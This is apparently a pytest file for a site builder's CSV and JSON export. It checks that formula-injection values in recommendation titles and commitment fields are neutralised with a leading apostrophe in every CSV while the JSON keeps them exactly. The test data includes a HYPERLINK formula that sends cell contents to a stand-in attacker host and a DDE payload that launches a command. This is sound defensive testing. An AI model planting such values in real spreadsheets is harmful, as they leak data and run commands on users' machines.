"""The site's spreadsheets never carry a cell a spreadsheet program would run; the JSON keeps the text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from conftest import run_cli

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1"]


def _write(root: Path) -> None:
    recs = root / "content" / "my-assembly" / "recommendations"
    responses = root / "content" / "my-assembly" / "responses"
    for index, formula in enumerate(FORMULAS, start=2):
        title = json.dumps(formula)
        (recs / f"rec-{index}.md").write_text(f"---\nnumber: \"{index}\"\ntitle: {title}\n---\nText.\n",
                                              encoding="utf-8")
        (responses / f"rec-{index}.md").write_text(
            f"---\nrecommendation: rec-{index}\nposition: accepted\ndate: 2026-06-01\n"
            f"commitments:\n  - {{id: c, action: {title}, owner: {title}, due: 2026-12-31}}\n"
            f"progress:\n  - {{date: 2026-06-02, status: in-progress, note: {title}, commitment: c}}\n---\nYes.\n",
            encoding="utf-8")


def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_formula_cells_are_text_in_every_csv_and_exact_in_the_json(starter: Path) -> None:
    _write(starter)
    out = starter / "out"
    result = run_cli("--root", str(starter), "build", "--out", str(out), "--as-of", "2026-12-04")
    assert result.code == 0, result.err
    data = out / "my-assembly" / "data"
    seen = []
    for name in ("recommendations.csv", "commitments.csv", "progress.csv"):
        for row in _cells(data / name)[1:]:
            for cell in row:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, cell)
                if cell.startswith("'"):
                    seen.append(cell[1:])
    for formula in FORMULAS:
        assert formula in seen, formula
    published = json.loads((data / "assembly.json").read_text(encoding="utf-8"))
    titles = {r["title"] for r in published["recommendations"]}
    assert set(FORMULAS) <= titles, "the JSON keeps the exact text"
